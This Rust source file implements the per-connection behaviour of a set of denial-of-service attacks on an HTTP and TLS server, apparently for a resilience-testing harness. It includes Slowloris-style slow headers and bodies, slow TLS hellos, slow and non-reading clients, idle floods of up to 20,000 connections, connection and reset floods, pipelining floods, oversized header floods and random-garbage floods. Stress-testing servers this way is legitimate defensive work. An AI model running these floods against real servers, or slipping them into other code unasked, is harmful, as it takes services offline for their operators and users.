//! The behaviour of the connections of each attack.

use std::io;
use std::sync::atomic::AtomicBool;
use std::time::Duration;

use super::crowd::{Crowd, Member, NextAction, crowd};
use super::hello::client_hello;
use super::{Tally, Target};

/// Time between two steps of a slow client.
const SLOW_STEP_INTERVAL: Duration = Duration::from_millis(200);
const SLOW_CLIENTS: Crowd =
    Crowd { size: 1_500, max_new: 200, interval: SLOW_STEP_INTERVAL, receive_buffer: None, resets: false };
/// As fast as one thread can.
const FLOOD: Crowd = Crowd { size: 256, max_new: 256, interval: Duration::ZERO, receive_buffer: None, resets: false };
/// Bytes that one connection of a flood sends in one step.
const BURST_BYTES: usize = 16 << 10;

pub fn slow_heads(target: &Target, stop: &AtomicBool) -> Tally {
    let start = format!("GET {} HTTP/1.1\r\nHost: x\r\nX-Slow: ", target.small).into_bytes();
    crowd(target, stop, &SLOW_CLIENTS, |member| drip(member, &start))
}

pub fn slow_bodies(target: &Target, stop: &AtomicBool) -> Tally {
    let start = format!("POST {} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n", target.small).into_bytes();
    crowd(target, stop, &SLOW_CLIENTS, |member| drip(member, &start))
}

pub fn slow_hellos(target: &Target, stop: &AtomicBool) -> Tally {
    let hello = client_hello();
    let start = hello[..100].to_vec();
    crowd(target, stop, &SLOW_CLIENTS, |member| drip(member, &start))
}

pub fn slow_readers(target: &Target, stop: &AtomicBool) -> Tally {
    readers(target, stop, 100)
}

pub fn no_readers(target: &Target, stop: &AtomicBool) -> Tally {
    readers(target, stop, 0)
}

pub fn idle(target: &Target, stop: &AtomicBool) -> Tally {
    let size = Crowd { size: 20_000, max_new: 500, interval: Duration::from_millis(20), ..SLOW_CLIENTS };
    crowd(target, stop, &size, |member| member.read(1).map(|_| NextAction::KeepOpen))
}

pub fn idle_persistent(target: &Target, stop: &AtomicBool) -> Tally {
    let size = Crowd { size: 20_000, max_new: 500, interval: Duration::from_millis(20), ..SLOW_CLIENTS };
    let request = request(&target.small);
    crowd(target, stop, &size, |member| {
        begin(member, &request)?;
        member.read(BURST_BYTES).map(|_| NextAction::KeepOpen)
    })
}

pub fn long_heads(target: &Target, stop: &AtomicBool) -> Tally {
    heads(target, stop, &[b'a'; BURST_BYTES])
}

pub fn many_fields(target: &Target, stop: &AtomicBool) -> Tally {
    let fields: Vec<u8> = b"a:b\r\n".iter().copied().cycle().take(BURST_BYTES / 5 * 5).collect();
    heads(target, stop, &fields)
}

pub fn connections(target: &Target, stop: &AtomicBool) -> Tally {
    crowd(target, stop, &FLOOD, |_| Ok(NextAction::Close))
}

pub fn resets(target: &Target, stop: &AtomicBool) -> Tally {
    let request = request(&target.big);
    let resets = Crowd { resets: true, ..FLOOD };
    crowd(target, stop, &resets, |member| {
        begin(member, &request)?;
        Ok(if member.read(64)? > 0 { NextAction::Close } else { NextAction::KeepOpen })
    })
}

pub fn pipelining(target: &Target, stop: &AtomicBool) -> Tally {
    pipelines(target, stop, true)
}

pub fn unread_pipelining(target: &Target, stop: &AtomicBool) -> Tally {
    pipelines(target, stop, false)
}

pub fn garbage(target: &Target, stop: &AtomicBool) -> Tally {
    let mut noise = Noise(1);
    crowd(target, stop, &FLOOD, |member| {
        let mut bytes = [0; 1024];
        bytes.iter_mut().for_each(|byte| *byte = noise.next());
        if member.number % 2 == 0 {
            // Half of the connections begin like a TLS record.
            bytes[..3].copy_from_slice(&[22, 3, 1]);
        }
        if member.sent < 64 << 10 {
            member.send(&bytes)?;
        }
        member.read(BURST_BYTES)?;
        Ok(NextAction::KeepOpen)
    })
}

pub fn hellos(target: &Target, stop: &AtomicBool) -> Tally {
    let hello = client_hello();
    crowd(target, stop, &FLOOD, |member| {
        begin(member, &hello)?;
        // The server's work is done when its response arrives.
        Ok(if member.read(BURST_BYTES)? > 0 { NextAction::Close } else { NextAction::KeepOpen })
    })
}

/// Sends `start`, then one byte in each step.
fn drip(member: &mut Member, start: &[u8]) -> io::Result<NextAction> {
    if !begin(member, start)? {
        member.send(b"a")?;
    }
    member.read(BURST_BYTES)?;
    Ok(NextAction::KeepOpen)
}

fn readers(target: &Target, stop: &AtomicBool, bytes: usize) -> Tally {
    let request = request(&target.big);
    let few = Crowd { size: 500, receive_buffer: Some(4096), ..SLOW_CLIENTS };
    crowd(target, stop, &few, |member| {
        if !begin(member, &request)? && (bytes > 0 || member.read == 0) {
            member.read(bytes.max(12))?;
        }
        member.check_not_reset()?;
        Ok(NextAction::KeepOpen)
    })
}

fn heads(target: &Target, stop: &AtomicBool, fields: &[u8]) -> Tally {
    let start = format!("GET {} HTTP/1.1\r\nHost: x\r\n", target.small).into_bytes();
    crowd(target, stop, &FLOOD, |member| {
        if !begin(member, &start)? {
            member.send(fields)?;
        }
        member.read(BURST_BYTES)?;
        Ok(NextAction::KeepOpen)
    })
}

fn pipelines(target: &Target, stop: &AtomicBool, reads: bool) -> Tally {
    let one = request(&target.small);
    let burst: Vec<u8> = one.repeat(BURST_BYTES / one.len());
    let few = Crowd { size: 64, ..FLOOD };
    crowd(target, stop, &few, |member| {
        // After a partial write, the next write continues at the same offset.
        let at = member.sent as usize % burst.len();
        member.send(&burst[at..])?;
        while reads && member.read(BURST_BYTES)? == BURST_BYTES {}
        Ok(NextAction::KeepOpen)
    })
}

/// Sends the rest of `start`. Returns false once all of `start` was sent in earlier steps.
fn begin(member: &mut Member, start: &[u8]) -> io::Result<bool> {
    let rest = usize::try_from(member.sent).ok().and_then(|sent| start.get(sent..)).unwrap_or_default();
    if rest.is_empty() {
        return Ok(false);
    }
    member.send(rest)?;
    Ok(true)
}

fn request(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
}

/// Pseudo-random bytes: xorshift.
struct Noise(u64);

impl Noise {
    fn next(&mut self) -> u8 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 32) as u8
    }
}
